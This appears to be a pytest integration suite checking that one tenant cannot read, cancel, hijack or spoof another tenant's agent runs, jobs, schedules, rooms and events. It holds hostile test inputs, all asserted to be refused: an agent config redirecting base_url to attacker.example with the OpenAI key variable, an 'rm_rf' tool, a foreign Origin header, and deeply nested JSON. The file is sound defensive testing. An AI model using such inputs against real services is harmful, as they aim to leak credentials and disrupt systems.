"""Mallory against alice through real services: every route and message on runs, jobs, schedules, rooms and events
refuses her with a typed error, and alice's data stays intact."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from raaf.jobs import BackgroundProcessor
from raaf.testing import OpenAIMock
from services.agent_runner import AgentRunnerApp, AgentRunnerSettings
from services.gateway import GatewayApp, GatewaySettings
from services.scheduler import SchedulerApp, SchedulerSettings
from shared.access import scoped_run_id
from shared.devstack.servers import NatsServer, ValkeyServer
from shared.identity import Identity
from shared.service.app import App
from tests.support.chat import ChatHarness
from tests.support.chat_ws import WsChat, of_type
from tests.support.runs import runner_env
from tests.support.waiting import eventually

StartApp = Callable[[App], Awaitable[App]]
GRANTS = {"runs": ["assistant", "billing"], "jobs": ["resize", "run_agent"]}
TOKENS = {
    "t-alice": {"sub": "alice", **GRANTS, "rooms": ["alice-*"], "events": ["alice.*", "jobs.*"]},
    "t-mallory": {"sub": "mallory", **GRANTS, "rooms": ["mallory-*"], "events": ["mallory.*"], "max_turns": 2},
    "t-ops": {"sub": "ops", "roles": ["admin"]},
    "t-alice-narrow": {"sub": "alice", **GRANTS, "rooms": [], "events": []},  # alice again, granted less
    # mallory granted the assistant, which hands off to billing (not granted) / uses tools beyond "add"
    "t-mallory-assistant": {"sub": "mallory", "runs": ["assistant"], "jobs": ["run_agent"]},
    "t-mallory-tools": {"sub": "mallory", **GRANTS, "tools": ["add"]},
}
USER = {"id": "m1", "role": "user", "parts": [{"type": "text", "text": "hello"}]}


@dataclass
class Stack:
    url: str
    http: aiohttp.ClientSession
    worker: BackgroundProcessor

    def headers(self, who: str) -> dict[str, str]:
        return {"Authorization": f"Bearer t-{who}"}

    async def call(self, who: str, method: str, path: str, **kw: Any) -> tuple[int, Any]:
        headers = {**self.headers(who), **kw.pop("headers", {})}
        async with self.http.request(method, f"{self.url}{path}", headers=headers, **kw) as resp:
            body = await resp.json() if resp.content_type == "application/json" else await resp.text()
            return resp.status, body

    async def refused(self, who: str, method: str, path: str, status: int = 403, code: str = "forbidden",
                      **kw: Any) -> None:
        got, body = await self.call(who, method, path, **kw)
        assert (got, body.get("code") if isinstance(body, dict) else body) == (status, code), (method, path, body)

    async def ws(self, who: str) -> WsChat:
        return await WsChat.connect(self.http, self.url, f"t-{who}")


@pytest.fixture
async def stack(nats_server: NatsServer, redis_server: ValkeyServer, start_app: StartApp, tmp_path: Path,
                monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Stack]:
    # The gateway's extensions read these from the process environment.
    monkeypatch.setenv("GATEWAY_RESTRICTED_EVENTS", "alice.*")
    monkeypatch.setenv("GATEWAY_ROOMS_PER_MINUTE", "4")
    async with OpenAIMock() as mock, aiohttp.ClientSession() as http:
        harness = ChatHarness(nats_server.url, redis_server.url, start_app)
        env = harness.env(GATEWAY_AUTH_MODE="token", GATEWAY_STATIC_TOKENS=json.dumps(TOKENS),
                          JOBS_TICK_INTERVAL="0.05")
        await start_app(AgentRunnerApp(AgentRunnerSettings.from_env(
            runner_env(nats_server.url, mock.url, harness.prefix, tmp_path))))
        await harness.replica()
        await start_app(SchedulerApp(SchedulerSettings.from_env(env)))
        gateway = await start_app(GatewayApp(GatewaySettings.from_env(env)))
        worker = BackgroundProcessor(redis_server.url, nats_url=nats_server.url, prefix=harness.prefix,
                                     maintenance_interval=None, retry_count=0)

        @worker.handle_job("resize")
        async def resize(data: dict[str, Any]) -> dict[str, int]:
            return {"width": data["width"] // 2}

        await worker.start()
        yield Stack(gateway.http_url, http, worker)
        await worker.stop(timeout=1)
        await harness.close()


async def finished_run(stack: Stack, who: str, run_id: str) -> dict[str, Any]:
    async def done() -> bool:
        status, body = await stack.call(who, "GET", f"/v1/runs/{run_id}")
        return status == 200 and body["status"] != "running"

    await eventually(done, 10, what=f"run {run_id} finished")
    return (await stack.call(who, "GET", f"/v1/runs/{run_id}"))[1]  # type: ignore[no-any-return]


async def test_mallory_cannot_read_follow_resume_or_cancel_alices_runs(stack: Stack) -> None:
    status, started = await stack.call("alice", "POST", "/v1/runs", json={"agent": "assistant", "input": "hi",
                                                                          "run_id": "order-1"})
    assert status == 202
    run_id = started["run_id"]
    assert run_id != "order-1" and run_id.endswith("_order-1")  # a chosen id lives in alice's namespace
    await stack.refused("mallory", "GET", f"/v1/runs/{run_id}")
    await stack.refused("mallory", "GET", f"/v1/runs/{run_id}/events")
    await stack.refused("mallory", "POST", f"/v1/runs/{run_id}/cancel")
    mallory = await stack.ws("mallory")
    for kind in ("resume", "cancel"):
        reply = await mallory.call(kind, run_id=run_id)
        assert (reply["type"], reply["code"]) == ("error", "forbidden"), reply
    # Taking alice's id first is no use: mallory's "order-1" is another run in mallory's namespace.
    status, theirs = await stack.call("mallory", "POST", "/v1/runs", json={"agent": "assistant", "input": "x",
                                                                           "run_id": "order-1"})
    assert status == 202 and theirs["run_id"] != run_id
    status, same = await stack.call("mallory", "POST", "/v1/runs", json={"agent": "assistant", "input": "x",
                                                                         "run_id": run_id})
    assert status == 202 and same["run_id"] != run_id
    assert (await finished_run(stack, "alice", run_id))["status"] == "completed"
    await stack.call("ops", "GET", f"/v1/runs/{run_id}")  # an admin may read anyone's
    await mallory.close()


async def test_inline_agents_narrow_a_grant_and_never_widen_it(stack: Stack) -> None:
    body = {"agent": "assistant", "input": "hi"}
    await stack.refused("mallory", "POST", "/v1/runs", json={**body, "agent": "tech"})
    widened = [{"name": "assistant", "tools": ["rm_rf"]}]
    await stack.refused("mallory", "POST", "/v1/runs", json={**body, "agents": widened})
    await stack.refused("mallory", "POST", "/v1/runs", json={**body, "agents": [
        {"name": "assistant", "base_url": "http://attacker.example/v1", "api_key_env": "OPENAI_API_KEY"}]})
    await stack.refused("mallory", "POST", "/v1/runs", json={**body, "agents": [
        {"name": "assistant", "handoffs": ["sneaky"]}, {"name": "sneaky"}]})
    await stack.refused("mallory", "POST", "/v1/runs", json={**body, "max_turns": 50})  # over her token's cap
    narrowed = [{"name": "assistant", "tools": ["add"], "handoffs": []}]
    status, _ = await stack.call("mallory", "POST", "/v1/runs", json={**body, "agents": narrowed})
    assert status == 202
    mallory = await stack.ws("mallory")
    reply = await mallory.call("agent_stream", agent="assistant", input="x", agents=widened)
    assert (reply["type"], reply["code"]) == ("error", "forbidden")
    reply = await mallory.call("chat_create_room", room="mallory-room", agent="tech")
    assert (reply["type"], reply["code"]) == ("error", "forbidden")
    await mallory.close()
    status, agents = await stack.call("mallory", "GET", "/v1/agents")
    assert status == 200 and all(not a.get("instructions") for a in agents["agents"])
    status, agents = await stack.call("ops", "GET", "/v1/agents")
    assert status == 200 and any(a.get("instructions") for a in agents["agents"])


async def test_mallory_cannot_read_cancel_take_or_purge_alices_jobs(stack: Stack) -> None:
    status, accepted = await stack.call("alice", "POST", "/v1/jobs", json={"job_type": "resize",
                                                                           "data": {"width": 640}, "job_id": "img-1"})
    assert status == 202
    job_id = accepted["job_id"]
    assert job_id != "img-1" and job_id.endswith(":img-1")
    await stack.refused("mallory", "GET", f"/v1/jobs/{job_id}")
    await stack.refused("mallory", "DELETE", f"/v1/jobs/{job_id}")
    status, theirs = await stack.call("mallory", "POST", "/v1/jobs", json={"job_type": "resize",
                                                                           "data": {"width": 2}, "job_id": job_id})
    assert status == 202 and theirs["job_id"] != job_id and theirs["duplicate"] is False
    for method, path in (("GET", "/v1/jobs/dead"), ("DELETE", "/v1/jobs/dead"), ("POST", "/v1/jobs/dead/retry"),
                         ("GET", "/v1/jobs/stats")):
        await stack.refused("mallory", method, path, data=b"")
    await stack.refused("mallory", "POST", "/v1/jobs?queue=jobs", json={"job_type": "resize", "data": {}})
    await stack.refused("mallory", "POST", "/v1/jobs", json={"job_type": "email", "data": {}})

    async def done() -> bool:
        return (await stack.call("alice", "GET", f"/v1/jobs/{job_id}"))[1].get("status") == "succeeded"

    await eventually(done, 10, what="alice's job done")
    _, job = await stack.call("alice", "GET", f"/v1/jobs/{job_id}")
    assert (job["result"], job["owner"]) == ({"width": 320}, "alice")
    assert (await stack.call("ops", "GET", "/v1/jobs/dead"))[0] == 200


async def test_schedules_belong_to_their_owner_and_fire_no_faster_than_allowed(stack: Stack) -> None:
    status, spec = await stack.call("alice", "PUT", "/v1/jobs/recurring/daily",
                                    json={"cron": "0 3 * * *", "job_type": "resize", "data": {"width": 2}})
    assert status == 200
    name = spec["name"]
    assert name != "daily" and spec["owner"] == "alice"
    status, listing = await stack.call("mallory", "GET", "/v1/jobs/recurring")
    assert status == 200 and listing["schedules"] == []
    await stack.refused("mallory", "DELETE", f"/v1/jobs/recurring/{name}")
    await stack.refused("mallory", "PUT", f"/v1/jobs/recurring/{name}",
                        json={"cron": "0 4 * * *", "job_type": "resize", "data": {"width": 1}})
    status, theirs = await stack.call("mallory", "PUT", "/v1/jobs/recurring/daily",
                                      json={"cron": "0 5 * * *", "job_type": "resize", "data": {"width": 1}})
    assert status == 200 and theirs["name"] != name  # the same short name is another schedule
    await stack.refused("mallory", "PUT", "/v1/jobs/recurring/spam", json={"cron": "0 3 * * *", "job_type": "email"})
    await stack.refused("mallory", "PUT", "/v1/jobs/recurring/spam", status=400, code="bad_request",
                        json={"cron": "* * * * * *", "job_type": "resize"})
    status, listing = await stack.call("alice", "GET", "/v1/jobs/recurring")
    assert [(s["name"], s["cron"]) for s in listing["schedules"]] == [(name, "0 3 * * *")]
    status, listing = await stack.call("ops", "GET", "/v1/jobs/recurring")
    assert name in [s["name"] for s in listing["schedules"]]


async def test_an_agent_job_is_held_to_the_runs_and_events_grants_and_its_run_is_its_owners(stack: Stack) -> None:
    await stack.refused("mallory", "POST", "/v1/jobs", json={"job_type": "run_agent",
                                                             "data": {"agent": "tech", "input": "x"}})
    await stack.refused("mallory", "POST", "/v1/jobs", json={"job_type": "run_agent", "data": {
        "agent": "assistant", "input": "x", "event": "alice.inbox"}})
    status, accepted = await stack.call("alice", "POST", "/v1/jobs", json={"job_type": "run_agent", "data": {
        "agent": "assistant", "input": "hello", "event": None}})
    assert status == 202

    async def done() -> bool:
        return (await stack.call("alice", "GET", f"/v1/jobs/{accepted['job_id']}"))[1].get("status") == "succeeded"

    await eventually(done, 15, what="the agent job done")
    _, job = await stack.call("alice", "GET", f"/v1/jobs/{accepted['job_id']}")
    run_id = job["result"]["run_id"]
    await stack.refused("mallory", "GET", f"/v1/runs/{run_id}")
    assert (await stack.call("alice", "GET", f"/v1/runs/{run_id}"))[1]["status"] == "completed"


async def test_an_agent_job_is_checked_as_a_start_of_its_whole_agent_handoffs_tools_and_limits_included(
    stack: Stack
) -> None:
    job = {"job_type": "run_agent", "data": {"agent": "assistant", "input": "x", "event": None}}
    for who in ("mallory-assistant", "mallory-tools"):
        await stack.refused(who, "POST", "/v1/runs", json={"agent": "assistant", "input": "x"})  # as a run start
        await stack.refused(who, "POST", "/v1/jobs", json=job)
        await stack.refused(who, "PUT", "/v1/jobs/recurring/nightly", json={"cron": "0 3 * * *", **job})
    over = {"job_type": "run_agent", "data": {**job["data"], "max_turns": 50}}  # type: ignore[dict-item]
    await stack.refused("mallory", "POST", "/v1/jobs", json=over)  # over her token's max_turns, as a run would be
    status, accepted = await stack.call("mallory", "POST", "/v1/jobs", json=job)
    assert status == 202
    _, info = await stack.call("mallory", "GET", f"/v1/jobs/{accepted['job_id']}")
    assert info["data"]["max_turns"] == 2  # her cap travels with the job to the run it starts
    _, listing = await stack.call("ops", "GET", "/v1/jobs/recurring")
    assert not [s for s in listing["schedules"] if s["name"].endswith("nightly")]


async def test_mallory_cannot_resume_stop_continue_or_take_first_alices_ai_sdk_chat(stack: Stack) -> None:
    url = "/v1/ui/assistant/chat"
    status, _ = await stack.call("alice", "POST", url, json={"id": "alices-chat", "messages": [USER]})
    assert status == 200
    stem = scoped_run_id(Identity("alice"), "alices-chat")  # her chat's runs: <stem>-1, -2 ...
    assert stem != "alices-chat"
    # The same chat id, in mallory's hands, names a chat of her own: nothing to resume or stop, no run of alice's.
    assert (await stack.call("mallory", "GET", f"{url}/alices-chat/stream"))[0] == 204
    await stack.refused("mallory", "POST", f"{url}/alices-chat/stop", status=404, code="not_found")
    for chosen in ("alices-chat", stem):  # taking the id (or alice's stem) first lands in mallory's namespace
        status, _ = await stack.call("mallory", "POST", url, json={"id": chosen, "messages": [USER]})
        assert status == 200
    await stack.refused("mallory", "GET", f"/v1/runs/{stem}-1")
    await stack.refused("mallory", "GET", f"/v1/runs/{stem}-2", status=404,  # her posts did not continue alice's
                        code="not_found")
    assert (await finished_run(stack, "alice", f"{stem}-1"))["status"] == "completed"
    answer = {"id": "a1", "role": "assistant", "parts": [{"type": "text", "text": "hi"}]}
    status, _ = await stack.call("alice", "POST", url, json={"id": "alices-chat", "messages": [USER, answer, USER]})
    assert status == 200 and (await finished_run(stack, "alice", f"{stem}-2"))["status"] == "completed"


async def test_a_restricted_rooms_answers_cannot_be_read_by_run_id_or_joined(stack: Stack) -> None:
    alice = await stack.ws("alice")
    await alice.ok("chat_create_room", room="alice-private", restricted=True)
    await alice.ok("chat_join", room="alice-private")
    await alice.ok("chat_send", room="alice-private", text="my secret")
    seen = await alice.events_until(of_type("agent_message"))  # the answer's run exists and has finished
    run_id = next(e["event"]["run_id"] for e in seen if e["event"]["type"] == "answer_started")
    assert run_id.startswith("chat-") and "alice-private" not in run_id
    await stack.refused("mallory", "GET", f"/v1/runs/{run_id}")
    await stack.refused("mallory", "GET", f"/v1/runs/{run_id}/events")
    mallory = await stack.ws("mallory")
    for kind, fields in (("chat_join", {}), ("chat_history", {}), ("chat_send", {"text": "hi"}),
                         ("chat_typing", {"typing": True}), ("chat_handoff", {"agent": "billing"})):
        reply = await mallory.call(kind, room="alice-private", **fields)
        assert (reply["type"], reply["code"]) == ("error", "forbidden"), (kind, reply)
    reply = await mallory.call("resume", run_id=run_id)
    assert (reply["type"], reply["code"]) == ("error", "forbidden")
    listed = await mallory.ok("chat_rooms")
    assert "alice-private" not in [r["name"] for r in listed["rooms"]]
    history = await alice.ok("chat_history", room="alice-private")
    assert [m["text"] for m in history["messages"]][:1] == ["my secret"]
    await asyncio.gather(alice.close(), mallory.close())


async def test_mallory_can_neither_see_nor_emit_alices_events(stack: Stack) -> None:
    mallory = await stack.ws("mallory")
    for kind, fields in (("subscribe_events", {"pattern": "alice.*"}), ("subscribe_events", {"pattern": ">"}),
                         ("emit_event", {"event": "alice.inbox", "data": {"x": 1}})):
        reply = await mallory.call(kind, **fields)
        assert (reply["type"], reply["code"]) == ("error", "forbidden"), (kind, reply)
    await mallory.close()
    await stack.refused("mallory", "POST", "/v1/events/alice.inbox", json={"x": 1})
    await stack.refused("mallory", "GET", "/v1/events/history?pattern=alice.*")
    await stack.refused("mallory", "GET", "/v1/events?pattern=alice.*")


async def test_bodies_must_be_json_from_an_allowed_origin_and_not_nested_too_deep(stack: Stack) -> None:
    await stack.refused("alice", "POST", "/v1/runs", status=415, code="bad_request",
                        data=b'{"agent": "assistant", "input": "hi"}', headers={"Content-Type": "text/plain"})
    await stack.refused("alice", "POST", "/v1/jobs", status=415, code="bad_request",
                        data=b'{"job_type": "resize"}', headers={"Content-Type": "application/x-www-form-urlencoded"})
    await stack.refused("alice", "POST", "/v1/runs", json={"agent": "assistant", "input": "hi"},
                        headers={"Origin": "https://attacker.example"})  # a page elsewhere, using her token
    deep = b'{"agent": "assistant", "input": "hi", "metadata": ' + b"[" * 1000 + b"]" * 1000 + b"}"
    await stack.refused("alice", "POST", "/v1/runs", status=400, code="bad_request", data=deep,
                        headers={"Content-Type": "application/json"})
    alice = await stack.ws("alice")
    await alice.ws.send_str('{"type": "ping", "x": ' + "[" * 1000 + "]" * 1000 + "}")
    assert (await alice.ok("ping"))["type"] == "pong"  # answered in order: the error came first, and no crash
    assert [m["code"] for m in alice.others if m["type"] == "error"] == ["bad_request"]
    await alice.close()


async def test_a_narrower_token_sent_again_leaves_the_rooms_it_no_longer_grants(stack: Stack) -> None:
    alice, ops = await stack.ws("alice"), await stack.ws("ops")
    await alice.ok("chat_create_room", room="alice-room")
    await alice.ok("chat_join", room="alice-room")
    await ops.ok("chat_join", room="alice-room")
    reply = await alice.call("auth", token="t-alice-narrow")
    assert (reply["type"], reply["subject"]) == ("authenticated", "alice")
    left = (await ops.events_until(of_type("participant_left")))[-1]["event"]
    assert (left["user"], left["reason"]) == ("alice", "access revoked")
    reply = await alice.call("chat_join", room="alice-room")
    assert (reply["type"], reply["code"]) == ("error", "forbidden")
    await asyncio.gather(alice.close(), ops.close())


async def test_one_identity_creating_rooms_too_fast_is_rate_limited_and_others_are_not(stack: Stack) -> None:
    mallory, alice = await stack.ws("mallory"), await stack.ws("alice")
    replies = [await mallory.call("chat_create_room", room=f"mallory-spam-{i}") for i in range(5)]
    assert [r["type"] for r in replies] == ["chat_room"] * 4 + ["error"]
    assert (replies[-1]["code"], replies[-1]["details"]["setting"]) == ("rate_limited", "GATEWAY_ROOMS_PER_MINUTE")
    assert (await alice.call("chat_create_room", room="alice-calm"))["type"] == "chat_room"
    await asyncio.gather(mallory.close(), alice.close())
